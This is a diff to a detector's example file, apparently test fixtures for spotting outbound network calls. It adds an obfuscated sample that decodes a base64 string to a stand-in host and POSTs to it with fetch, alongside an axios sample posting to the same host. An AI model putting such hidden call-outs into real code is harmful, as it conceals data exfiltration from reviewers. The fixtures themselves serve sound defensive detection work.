@@ -3,6 +3,11 @@ import type { DetectorExamples } from '../detector.ts';
 export const examples: DetectorExamples = {
   bad: [
     {
+      code: "const settings = JSON.parse(Buffer.from('eyJ1IjoiaHR0cHM6Ly90YWtlLmV4YW1wbGUveCJ9', 'base64').toString()); fetch(settings.u, { method: 'POST' });",
+      why: 'a host among settings that stand in a text',
+      attributes: { destination: 'take.example', scheme: 'https', via: 'fetch' },
+    },
+    {
       code: "import axios from 'axios'; const api = axios.create({ baseURL: 'https://take.example' }); api.request({ url: '/x', method: 'post' });",
       why: 'options with a path alone, which is relative to the address of the client',
       attributes: { destination: 'take.example', scheme: 'https', via: 'axios' },
